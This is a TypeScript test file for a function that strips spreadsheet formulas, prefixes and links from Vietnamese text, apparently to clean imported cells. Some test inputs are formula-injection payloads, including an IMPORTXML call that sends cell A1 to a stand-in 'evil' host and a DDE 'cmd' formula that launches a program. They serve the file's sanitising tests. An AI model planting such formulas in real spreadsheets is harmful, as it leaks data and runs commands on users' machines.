import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { humanText } from './formula.ts';

describe('humanText', () => {
  it('keeps the words after a spreadsheet formula, whatever the prefix', () => {
    const cases: [string, string][] = [
      ['=HYPERLINK("http://x";"a") Hệ thống đấu thầu qua mạng', 'Hệ thống đấu thầu qua mạng'],
      ['=HYPERLINK("http://example.com") Hệ thống đấu thầu', 'Hệ thống đấu thầu'],
      ['+Hệ thống đấu thầu', 'Hệ thống đấu thầu'],
      ['-Hệ thống đấu thầu', 'Hệ thống đấu thầu'],
      ['@SUM(A1:B2) Hệ thống quản lý văn bản', 'Hệ thống quản lý văn bản'],
      ['\t=IMPORTXML(CONCAT("http://evil/?v=",A1),"//a") Bản đồ số', 'Bản đồ số'],
      ["=cmd|' /C calc'!A0 Hệ thống họp trực tuyến", 'Hệ thống họp trực tuyến'],
      ['=1+2 Cổng dịch vụ công', 'Cổng dịch vụ công'],
      ['=A1&B2 Trợ lý ảo', 'Trợ lý ảo'],
      ['＝HYPERLINK("http://x") Sổ sức khỏe', 'Sổ sức khỏe'],
    ];
    for (const [input, expected] of cases) assert.equal(humanText(input), expected, input);
  });

  it('keeps the quoted labels a person wrote inside the formula, not links or placeholders', () => {
    assert.equal(humanText('=HYPERLINK("http://x","Hệ thống đấu thầu")'), 'Hệ thống đấu thầu');
    assert.equal(humanText('= "Hệ thống" & " đấu thầu"'), 'Hệ thống đấu thầu');
    assert.equal(humanText('=HYPERLINK("https://a.vn/x";"b")'), '');
  });

  it('drops links anywhere in the text', () => {
    assert.equal(
      humanText('Cổng thông tin https://dichvucong.gov.vn/p/home của tỉnh'),
      'Cổng thông tin của tỉnh',
    );
    assert.equal(humanText('Hệ thống (SOC), xem www.example.vn'), 'Hệ thống (SOC), xem');
  });

  it('leaves ordinary text, and prose that starts with a dash or a number, as it is', () => {
    for (const text of [
      'Hệ thống bình thường',
      'Nền tảng SOC (thử nghiệm)',
      '2765/BTTTT-CĐSQG',
      'e-Cabinet',
    ]) {
      assert.equal(humanText(text), text);
    }
    assert.equal(humanText('- 2 chức năng chính'), '2 chức năng chính');
    assert.equal(humanText('=SOC tỉnh'), 'SOC tỉnh');
    assert.equal(humanText('+ Quản lý hồ sơ (A1)'), 'Quản lý hồ sơ (A1)');
  });

  it('survives broken and hostile formulas', () => {
    assert.equal(humanText('=HYPERLINK("http://x"'), '');
    assert.equal(humanText('=='), '');
    assert.equal(humanText(`=${'SUM('.repeat(5_000)}`), '');
    assert.ok(humanText(`=${'A1+'.repeat(10_000)} Bản đồ`).length <= 20_000);
  });
});
